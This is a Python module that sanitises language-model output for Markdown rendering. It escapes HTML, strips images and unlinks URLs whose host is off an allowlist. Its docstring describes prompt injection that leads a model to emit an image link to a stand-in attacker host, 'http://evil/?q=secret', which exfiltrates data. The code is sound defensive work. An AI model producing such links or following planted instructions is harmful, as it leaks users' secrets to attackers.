"""Make model output safe to render as Markdown: no raw HTML, no images, no links off the allowlist.

Model output may echo instructions planted in documents (``![x](http://evil/?q=secret)``), so every
answer passes through :func:`sanitize_markdown` before it reaches ``st.markdown`` or a terminal.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)?|\[[^\]]*\])")
_LINK = re.compile(r"\[([^\]]*)\]\(\s*([^)\s]*)[^)]*\)")
_REF_LINK = re.compile(r"\[([^\]]+)\]\[[^\]]*\]")
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]]+\]:\s*\S.*$", re.MULTILINE)
_BARE_URL = re.compile(r"\b(?:(?:https?|ftp|file|javascript|data|vbscript):|www\.)[^\s)\]]*", re.IGNORECASE)


def _allowed(url: str, allowed_hosts: Collection[str]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    return parts.scheme in {"http", "https"} and (parts.hostname or "") in allowed_hosts


def sanitize_markdown(text: str, allowed_hosts: Collection[str] = ()) -> str:
    """Return ``text`` with HTML escaped, images reduced to their alt text and foreign links unlinked."""
    text = text.replace("\x00", "")
    text = text.replace("<", "&lt;")
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _REF_DEF.sub("", text)
    text = _REF_LINK.sub(lambda m: m.group(1), text)

    kept: list[str] = []

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if _allowed(url, allowed_hosts):
            kept.append(match.group(0))
            return f"\x00{len(kept) - 1}\x00"
        return label

    text = _LINK.sub(link, text)

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        if _allowed(url, allowed_hosts):
            return url
        return "`" + url.replace("`", "") + "`"

    text = _BARE_URL.sub(bare, text)
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], text)
